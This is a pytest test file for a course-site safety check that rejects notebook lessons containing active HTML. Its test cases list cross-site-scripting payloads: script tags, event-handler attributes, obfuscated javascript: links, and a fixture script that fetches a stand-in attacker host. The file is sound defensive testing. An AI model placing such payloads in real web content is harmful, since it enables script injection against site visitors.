"""The site runs only its own scripts (issue 45): lessons carrying active HTML are refused.

Unit cases of ``coursetools.site.safety`` on notebook JSON, every real lesson passing,
and the build's source-writing step (``coursetools.site.build.write_sources``, what
``python -m coursetools.site`` runs before Sphinx) stopping on a fixture lesson that
carries a script, naming the notebook and the cell, before it writes anything.
"""

from __future__ import annotations

import sys
from pathlib import Path

import nbformat
import pytest

ROOT = Path(__file__).resolve().parents[2]
sys.path.insert(0, str(ROOT))

from coursetools.shared.common import CourseToolsError, lesson_notebooks  # noqa: E402
from coursetools.site.safety import notebook_problems, problems_in_html  # noqa: E402


@pytest.mark.parametrize("text, found", [
    ("<script>alert(1)</script>", "a <script> element"),
    ("<SCRIPT src=x></SCRIPT>", "a <script> element"),
    ('<img src=x onerror="alert(1)">', "an event-handler attribute (onerror=)"),
    ("<svg/onload=alert(1)>", "an event-handler attribute (onload=)"),
    ('<iframe src="https://example.org"></iframe>', "a <iframe> element"),
    ('<a href="javascript:alert(1)">x</a>', "a javascript: link"),
    ("[click](javascript:alert(1))", "a javascript: link"),
    ('<a href="&#106;avascript:alert(1)">x</a>', "a javascript: link"),
    ('<a href="java\nscript:alert(1)">x</a>', "a javascript: link"),
    ('<a href="data:text/html,<b>x</b>">x</a>', "a data:text/html link"),
])
def test_active_html_is_found(text, found) -> None:
    assert found in problems_in_html(text)


@pytest.mark.parametrize("text", [
    '<a href="https://example.org/on=1">a link</a>', "<p>the onset of learning</p>",
    "$w \\cdot x > 0$ and <b>bold</b>", '<img src="fig.png" alt="a figure">',
    "once = 1", "A description: the script of a lecture.",
])
def test_ordinary_html_passes(text) -> None:
    assert problems_in_html(text) == []


def _lesson(markdown: str, output_html: str | None = None):
    cells = [nbformat.v4.new_markdown_cell("# A lesson"), nbformat.v4.new_markdown_cell(markdown)]
    code = nbformat.v4.new_code_cell("show()")
    if output_html is not None:
        code.outputs = [nbformat.v4.new_output("display_data", {"text/html": output_html})]
    return nbformat.v4.new_notebook(cells=[*cells, code])


def test_notebook_problems_name_the_cell() -> None:
    nb = _lesson("Some text <script>steal()</script>", '<div onmouseover="x()">out</div>')
    lines = notebook_problems(nb, "notebooks/99_bad.ipynb")
    assert len(lines) == 2
    assert lines[0].startswith("notebooks/99_bad.ipynb, cell 1 (markdown, id ")
    assert "a <script> element in its Markdown" in lines[0]
    assert "cell 2 (code" in lines[1] and "(onmouseover=) in its text/html output" in lines[1]
    js = nbformat.v4.new_code_cell("x")
    js.outputs = [nbformat.v4.new_output("display_data", {"application/javascript": "alert(1)"})]
    assert "a script" in notebook_problems(nbformat.v4.new_notebook(cells=[js]), "n")[0]


def test_html_shown_as_code_passes() -> None:
    nb = _lesson("Write `<script>` to ...\n\n```html\n<script>alert(1)</script>\n```\n")
    assert notebook_problems(nb, "n") == []


def test_every_lesson_passes() -> None:
    for path in [ROOT / "notebooks" / "00_index.ipynb", *lesson_notebooks()]:
        assert notebook_problems(nbformat.read(path, as_version=4), path.name) == [], path


def test_site_build_stops_on_a_lesson_carrying_a_script(tmp_path) -> None:
    from coursetools.site.build import write_sources

    lessons = tmp_path / "notebooks"
    lessons.mkdir()
    good = lessons / "00_index.ipynb"
    nbformat.write(_lesson("Welcome."), good)
    bad = lessons / "01_bad.ipynb"
    nbformat.write(_lesson("Fine.", "<p>ok</p><script>fetch('https://evil.example')</script>"), bad)
    src = tmp_path / "src"
    src.mkdir()
    with pytest.raises(CourseToolsError) as err:
        write_sources(src, [good, bad])
    message = str(err.value)
    assert "notebooks/01_bad.ipynb, cell 2 (code" in message
    assert "a <script> element in its text/html output" in message
    assert list(src.iterdir()) == []  # nothing written
